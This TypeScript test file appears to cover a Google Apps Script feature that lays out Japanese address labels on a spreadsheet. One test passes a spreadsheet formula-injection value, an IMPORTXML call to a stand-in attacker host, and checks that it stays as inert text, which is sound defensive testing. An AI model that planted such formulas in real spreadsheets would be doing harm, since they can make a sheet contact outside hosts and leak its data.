import { LABEL_SHEET_NAME, rebuildLabelSheet } from '../../src/channels/address-labels';
import { type AddressLabel, LABEL_STOCK, labelLayout } from '../../src/core/label-layout';
import { textWidthEm } from '../../src/core/line-break';
import { PRINT, printableArea } from '../../src/core/print-page';
import type { FakeSheet } from '../fakes';
import { emptySpreadsheetEachTest } from '../fakes/globals';
import { pageStarts } from './page-breaks';

const fakes = emptySpreadsheetEachTest();
const ss = fakes.ss;
const sheet = (): FakeSheet => fakes.sheet(LABEL_SHEET_NAME);
const text = (row: number, column: number) => String(sheet().cell(row, column).value);

const LAYOUT = labelLayout();
const PAGE = LAYOUT.rowsPerPage;
const PER_LABEL = LABEL_STOCK.rowsPerLabel;

function household(i: number, overrides: Partial<AddressLabel> = {}): AddressLabel {
  return {
    postalCode: '1540004',
    address: `東京都世田谷区太子堂${i}-2-3`,
    name: `客 ${i}`,
    honorific: '',
    ...overrides,
  };
}

/** Where label i (0-based) is on the sheet: its first row (1-based) and text column (1-based). */
function position(i: number): { row: number; column: number } {
  const page = Math.floor(i / LAYOUT.labelsPerPage);
  const onPage = i % LAYOUT.labelsPerPage;
  return {
    row: page * PAGE + LAYOUT.spacerRows + Math.floor(onPage / LABEL_STOCK.columns) * PER_LABEL + 1,
    column: LAYOUT.textColumns[onPage % LABEL_STOCK.columns] + 1,
  };
}

function labelAt(i: number): string[] {
  const { row, column } = position(i);
  return Array.from({ length: PER_LABEL }, (_, r) => text(row + r, column));
}

describe('rebuildLabelSheet', () => {
  test('12 labels make one page: 〒, 住所, 氏名 様, left to right then down', () => {
    rebuildLabelSheet(
      ss(),
      Array.from({ length: 12 }, (_, i) => household(i + 1)),
    );
    const data = sheet().toData();
    expect(data.values.length).toBeLessThanOrEqual(PAGE);
    expect(labelAt(0)).toEqual(['', '〒154-0004', '東京都世田谷区太子堂1-2-3', '', '客 1 様']);
    expect(position(1)).toEqual({ row: 1, column: 4 });
    expect(labelAt(1)[4]).toBe('客 2 様');
    expect(position(2)).toEqual({ row: 6, column: 2 });
    expect(labelAt(11)[4]).toBe('客 12 様');
    expect(sheet().cell(position(0).row + 4, 2).fontSize).toBe(14);
    expect(sheet().cell(position(0).row + 1, 2).fontSize).toBe(10);
    expect(data.columnWidths).toEqual({ 1: 22, 2: 308, 3: 19, 4: 310 });
    expect(new Set(Object.values(data.rowHeights ?? {}))).toEqual(new Set([32]));
    expect(Object.keys(data.rowHeights ?? {})).toHaveLength(PAGE);
    // The padding columns stay empty.
    for (const row of data.values) expect([row[0] ?? '', row[2] ?? '']).toEqual(['', '']);
  });

  test('one label per entry; the 13th starts page 2 and the page breaks fall on the pages', () => {
    const labels = Array.from({ length: 13 }, (_, i) => household(i + 1));
    rebuildLabelSheet(ss(), labels);
    const names = sheet()
      .toData()
      .values.flat()
      .filter((v) => / 様$/.test(String(v)));
    expect(names).toEqual(labels.map((l) => `${l.name} 様`));
    expect(position(12)).toEqual({ row: PAGE + 1, column: 2 });
    expect(labelAt(12)).toEqual(['', '〒154-0004', '東京都世田谷区太子堂13-2-3', '', '客 13 様']);
    const heights = Object.values(sheet().toData().rowHeights ?? {});
    expect(heights).toHaveLength(2 * PAGE);
    for (const scale of [1, LAYOUT.maxScale])
      expect(pageStarts(heights, printableArea().heightPx, scale)).toEqual([1, PAGE + 1]);
  });

  test('御中, a name that already has its honorific, and a blank postal code', () => {
    rebuildLabelSheet(ss(), [
      household(1, { name: '株式会社ひまわり', honorific: '御中' }),
      household(2, { name: '山田 花子様' }),
      household(3, { postalCode: '' }),
    ]);
    expect(labelAt(0)[4]).toBe('株式会社ひまわり 御中');
    expect(labelAt(1)[4]).toBe('山田 花子 様');
    expect(labelAt(2)[1]).toBe('');
  });

  test('a long address takes two rows, breaking at the space, and a smaller size when it must', () => {
    rebuildLabelSheet(ss(), [
      household(1, { address: '東京都世田谷区太子堂四丁目1番1号 キャロットタワー1201号室' }),
      household(2, {
        address: '北海道札幌市中央区北一条西二丁目三番地四号\nさっぽろ中央ビルディング東館十二階1203号室',
      }),
    ]);
    expect(labelAt(0).slice(2, 4)).toEqual(['東京都世田谷区太子堂四丁目1番1号', 'キャロットタワー1201号室']);
    const { row, column } = position(1);
    const [first, second] = labelAt(1).slice(2, 4);
    expect(first + second).toBe(
      '北海道札幌市中央区北一条西二丁目三番地四号さっぽろ中央ビルディング東館十二階1203号室',
    );
    const pt = sheet().cell(row + 2, column).fontSize ?? 0;
    expect(pt).toBeLessThan(10);
    const capacity = Math.floor(LAYOUT.textWidthPx / ((pt / 72) * PRINT.dpi));
    for (const line of [first, second]) expect(textWidthEm(line)).toBeLessThanOrEqual(capacity);
  });

  test('formula-like text stays text', () => {
    rebuildLabelSheet(ss(), [household(1, { address: '=IMPORTXML("http://evil.example")', name: '+田中' })]);
    expect(labelAt(0)[2]).toMatch(/^=IMPORTXML/);
    expect(labelAt(0)[2] + labelAt(0)[3]).toBe('=IMPORTXML("http://evil.example")');
    expect(labelAt(0)[4]).toBe('+田中 様');
    expect(sheet().formulaCells()).toEqual({});
  });

  test('no labels: the sheet says so', () => {
    rebuildLabelSheet(ss(), [household(1)]);
    rebuildLabelSheet(ss(), []);
    expect(sheet().toData().values).toEqual([['宛名ラベルはありません']]);
  });

  test('Spreadsheet calls do not grow with the number of labels', () => {
    const callsFor = (n: number) => {
      fakes.services().calls.reset();
      rebuildLabelSheet(
        ss(),
        Array.from({ length: n }, (_, i) => household(i)),
      );
      return fakes.services().calls.byMethod();
    };
    // The grid is fitted to the labels: growing or shrinking it is one call, whatever the number.
    const resized = (calls: Record<string, number>) => {
      const {
        'SpreadsheetApp.Sheet.insertRowsAfter': grown = 0,
        'SpreadsheetApp.Sheet.deleteRows': shrunk = 0,
        ...rest
      } = calls;
      expect(grown + shrunk).toBeLessThanOrEqual(1);
      return rest;
    };
    callsFor(1); // creates the sheet
    const one = callsFor(1);
    expect(resized(callsFor(100))).toEqual(resized(one));
    expect(one['SpreadsheetApp.Range.setValues']).toBe(1);
    expect(one['SpreadsheetApp.Sheet.setRowHeightsForced']).toBe(1);
    // 500 households is 42 pages, 1260 rows: growing the grid is one call more.
    expect(callsFor(500)['SpreadsheetApp.Sheet.insertRowsAfter']).toBe(1);
  });

  test('the sheet is as large as its labels, and shrinks when fewer wait (Sheets counts the grid)', () => {
    rebuildLabelSheet(
      ss(),
      Array.from({ length: 500 }, (_, i) => household(i)),
    );
    const long = sheet().toData();
    // 42 pages of 30 rows, and the label stock's columns.
    expect(long.maxRows).toBe(1260);
    expect(long.maxColumns).toBe(labelLayout().columnWidthsPx.length);
    rebuildLabelSheet(ss(), [household(1)]);
    const short = sheet().toData();
    expect(short.maxRows).toBe(30);
    rebuildLabelSheet(ss(), []);
    expect(sheet().toData()).toMatchObject({ maxRows: 1, values: [['宛名ラベルはありません']] });
  });
});
